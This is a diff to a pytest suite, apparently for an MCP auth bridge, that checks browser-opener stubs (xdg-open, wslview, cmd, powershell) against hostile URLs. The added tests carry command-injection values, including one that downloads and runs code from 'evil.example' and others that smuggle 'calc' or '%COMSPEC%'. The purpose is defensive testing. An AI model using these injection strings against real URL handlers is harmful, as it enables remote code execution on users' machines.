@@ -3,19 +3,20 @@
 import asyncio
 import os
 import re
+import shutil
 import subprocess
 from urllib.parse import parse_qsl, unquote_to_bytes, urlsplit
 
 import pytest
 from hostile_urls import PAYLOADS, corpus
-from openers import EVAL, POWERSHELL, WSLVIEW, XDG_OPEN
+from openers import CMD, EVAL, POWERSHELL, WSLVIEW, WSLVIEW_2, WSLVIEW_CMD, XDG_OPEN
 
 from mcp_auth_bridge.errors import UrlRefused
 from mcp_auth_bridge.shell import terminal
 from mcp_auth_bridge.shell.browser import open_url
 from mcp_auth_bridge.shell.loopback import Loopback
 from mcp_auth_bridge.shell.person import BrowserPerson
-from mcp_auth_bridge.urls import Purpose, gate
+from mcp_auth_bridge.urls import Purpose, for_person, gate
 
 pytestmark = [
     pytest.mark.skipif(os.name == "nt", reason="the openers are scripts"),
@@ -24,7 +25,14 @@ pytestmark = [
     pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
 ]
 
-OPENERS = {"xdg-open": XDG_OPEN, "wslview": WSLVIEW, "a shell": EVAL}
+OPENERS = {
+    "xdg-open": XDG_OPEN,
+    "wslview": WSLVIEW,
+    "wslview of wslu 2": WSLVIEW_2,
+    "wslview by cmd": WSLVIEW_CMD,
+    "a shell": EVAL,
+}
+EVALUATORS = {"powershell.exe": POWERSHELL, "cmd.exe": CMD}
 ENTRANCE = re.compile(r"http://127\.0\.0\.1:[0-9]+/open/[0-9a-f]{32}")
 PLACES = (
     "https://as.example/a{}",
@@ -59,7 +67,7 @@ def desk(tmp_path, monkeypatch):
     """Starts the opener of that name with a URL; the notes' end is the opener's end."""
     notes = tmp_path / "notes"
     os.mkfifo(notes)
-    for name, script in {**OPENERS, "powershell.exe": POWERSHELL}.items():
+    for name, script in {**OPENERS, **EVALUATORS}.items():
         program = tmp_path / name.replace(" ", "-")
         program.write_text(script.replace('"$NOTES"', f'"{notes}"').replace('os.environ["NOTES"]', repr(str(notes))))
         program.chmod(0o700)
@@ -124,6 +132,21 @@ def test_no_opener_gets_a_character_that_anything_evaluates(desk, monkeypatch, o
         assert parse_qsl(got.query, keep_blank_values=True) == parse_qsl(wanted.query, keep_blank_values=True)
 
 
+@pytest.mark.skipif(shutil.which("xdg-open") is None, reason="needs xdg-utils")
+def test_the_real_xdg_open_hands_on_what_it_is_given(desk, tmp_path, monkeypatch):
+    """Without a desktop it asks the system's browser, which is the stub."""
+    real = shutil.which("xdg-open", path=os.environ["PATH"].removeprefix(f"{tmp_path}:"))
+    (tmp_path / "xdg-open").rename(tmp_path / "x-www-browser")
+    (tmp_path / "xdg-open").symlink_to(real)
+    for name in ("XDG_CURRENT_DESKTOP", "DESKTOP_SESSION", "DBUS_SESSION_BUS_ADDRESS", "WAYLAND_DISPLAY"):
+        monkeypatch.delenv(name, raising=False)
+    for name, value in {"DISPLAY": ":0", "HOME": str(tmp_path), "XDG_DATA_DIRS": str(tmp_path)}.items():
+        monkeypatch.setenv(name, value)
+    urls = [wanted for url in hostile()[::25] if (wanted := accepted(url))]
+    for url in ["http://127.0.0.1:49152/open/0123456789abcdef", *map(str, urls)]:
+        assert desk("xdg-open", url) == for_person(gate(url, Purpose.AUTHORIZATION))
+
+
 @pytest.mark.parametrize("opener", ["wslview"])
 @pytest.mark.parametrize("every", [25, pytest.param(1, marks=pytest.mark.slow)])
 def test_even_a_url_itself_is_nothing_to_powershell(desk, opener, every):
@@ -134,10 +157,19 @@ def test_even_a_url_itself_is_nothing_to_powershell(desk, opener, every):
             assert segments(got.path) == segments(wanted.path)
 
 
-def test_the_evaluators_of_this_test_do_evaluate(tmp_path, desk):
+@pytest.mark.parametrize(
+    ("opener", "evil"),
+    [
+        ("wslview", "a$(iex(irm('https://evil.example')))"),
+        ("wslview", "a`calc"),
+        ("wslview of wslu 2", "a?x&calc&y"),
+        ("wslview of wslu 2", "a;calc"),
+        ("wslview by cmd", "%COMSPEC%"),
+    ],
+)
+def test_the_evaluators_of_this_test_do_evaluate(tmp_path, desk, opener, evil):
     """A stub that noticed nothing would prove nothing."""
-    payload = "https://as.example/a$(iex(irm('https://evil.example')))"
-    script = tmp_path / "wslview"
-    seen = subprocess.Popen([script, payload], env={"PATH": f"{tmp_path}:/usr/bin:/bin"})
+    script = tmp_path / opener.replace(" ", "-")
+    seen = subprocess.Popen([script, f"https://as.example/{evil}"], env={"PATH": f"{tmp_path}:/usr/bin:/bin"})
     assert (tmp_path / "notes").read_text().startswith("0\nevaluated: ")
     assert seen.wait() == 0
